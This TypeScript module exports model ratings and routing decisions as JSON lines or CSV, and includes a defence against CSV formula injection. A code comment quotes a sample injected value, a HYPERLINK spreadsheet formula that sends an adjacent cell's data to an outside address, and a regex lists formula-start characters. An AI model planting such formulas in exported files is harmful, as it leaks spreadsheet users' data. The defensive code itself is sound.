/**
 * Writes ratings and decisions out as JSON lines or CSV, for a spreadsheet or another tool.
 *
 * @remarks
 * JSON lines keep every field and tag each record with its kind, so one file can hold both tables.
 * CSV is for people: one header, scalar cells, and the list-valued decision fields (candidates,
 * escalation, pruned) as JSON inside their cell rather than spread over a variable number of columns.
 * When both tables go into one CSV, the header is the union and a `record` column says which is which.
 * A rating carries the mean time a call took at its class on this machine, where the ledger timed any:
 * the wait the planner weighs, so a spreadsheet can see why a cheap model was passed over.
 */
import type { DecisionRow } from '../decisions/decision';
import { ability } from '../ratings';
import { timingFigures, type TimingFigures } from '../timing';
import { ratingKey, type RatingEntry, type TimingEntry } from './ledger';

export type ExportFormat = 'jsonl' | 'csv';
export type ExportWhat = 'ratings' | 'decisions' | 'all';

const RATING_COLUMNS = [
  'model',
  'class',
  'rating',
  'ability',
  'graded',
  'ok',
  'updated_at',
  'mean_ms',
  'first_token_ms',
  'timed_calls',
] as const;
const DECISION_COLUMNS = [
  'at',
  'call',
  'run',
  'class',
  'shape',
  'model',
  'resolved',
  'rung',
  'candidates',
  'escalation',
  'explore',
  'propensity',
  'verdict',
  'verdict_reason',
  'input_tokens',
  'output_tokens',
  'cost',
  'latency_ms',
  'reason',
  'mode',
  'pruned',
  'final',
] as const;

type Cell = string | number | boolean | null | undefined;

/** A rating's time as exported: whole milliseconds, nothing where the ledger timed no call. */
function timeFields(time: TimingFigures | undefined): { meanMs?: number; firstTokenMs?: number; timedCalls?: number } {
  if (!time) return {};
  return {
    meanMs: Math.round(time.meanMs),
    ...(time.firstTokenMs === undefined ? {} : { firstTokenMs: Math.round(time.firstTokenMs) }),
    timedCalls: time.attempts,
  };
}

function ratingRecord(entry: RatingEntry, time: TimingFigures | undefined): Record<string, Cell> {
  const fields = timeFields(time);
  return {
    model: entry.model,
    class: entry.classKey,
    rating: entry.rating,
    ability: ability(entry.rating),
    graded: entry.graded,
    ok: entry.ok,
    updated_at: entry.updatedAt,
    mean_ms: fields.meanMs,
    first_token_ms: fields.firstTokenMs,
    timed_calls: fields.timedCalls,
  };
}

function decisionRecord(row: DecisionRow): Record<string, Cell> {
  return {
    at: row.at,
    call: row.call,
    run: row.run,
    class: row.class,
    shape: row.shape,
    model: row.model,
    resolved: row.resolved,
    rung: row.rung,
    candidates: JSON.stringify(row.candidates),
    escalation: JSON.stringify(row.escalation),
    explore: row.explore,
    propensity: row.propensity,
    verdict: row.verdict,
    verdict_reason: row.verdictReason,
    input_tokens: row.inputTokens,
    output_tokens: row.outputTokens,
    cost: row.cost,
    latency_ms: row.latencyMs,
    reason: row.reason,
    mode: row.mode,
    pruned: JSON.stringify(row.pruned),
    final: row.final,
  };
}

export function exportLedger(
  format: ExportFormat,
  what: ExportWhat,
  ratings: RatingEntry[],
  decisions: DecisionRow[],
  timings: readonly TimingEntry[] = [],
): string {
  const times = new Map(timings.map((timing) => [ratingKey(timing.model, timing.classKey), timingFigures(timing)]));
  const timeOf = (entry: RatingEntry) => times.get(ratingKey(entry.model, entry.classKey));
  const withRatings = what !== 'decisions';
  const withDecisions = what !== 'ratings';
  if (format === 'jsonl') {
    const lines: string[] = [];
    if (withRatings)
      for (const entry of ratings)
        lines.push(JSON.stringify({ type: 'rating', ...entry, ability: ability(entry.rating), ...timeFields(timeOf(entry)) }));
    if (withDecisions) for (const row of decisions) lines.push(JSON.stringify({ type: 'decision', ...row }));
    return lines.map((line) => `${line}\n`).join('');
  }
  const columns: string[] = [];
  if (what === 'all') columns.push('record');
  for (const column of [...(withRatings ? RATING_COLUMNS : []), ...(withDecisions ? DECISION_COLUMNS : [])])
    if (!columns.includes(column)) columns.push(column);
  const records: Record<string, Cell>[] = [];
  if (withRatings) for (const entry of ratings) records.push({ record: 'rating', ...ratingRecord(entry, timeOf(entry)) });
  if (withDecisions) for (const row of decisions) records.push({ record: 'decision', ...decisionRecord(row) });
  const lines = [columns.join(','), ...records.map((record) => columns.map((column) => csvCell(record[column])).join(','))];
  return lines.map((line) => `${line}\n`).join('');
}

/**
 * The first characters that make a spreadsheet read a cell as a formula: `=`, `+`, `-`, `@`, and the tab,
 * carriage return and NUL that some strip before looking (OWASP's advice on CSV injection).
 */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/**
 * One CSV cell: RFC 4180 quoting of a cell holding a comma, quote or line break (its quotes doubled), and
 * a text cell that a spreadsheet would read as a formula written with a `'` before it.
 *
 * @remarks
 * Model ids, reasons and member names are what providers, checks and teammates wrote: a model id of
 * `=HYPERLINK("https://…?"&A1,"docs")` opened as a formula that sent the next cell to that address. A
 * spreadsheet shows a leading `'` as marking text and hides it; another reader sees it, the lesser harm.
 * Numbers are Rung's own and written as they are: a negative rating stays a number.
 */
export function csvCell(value: Cell): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : String(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}
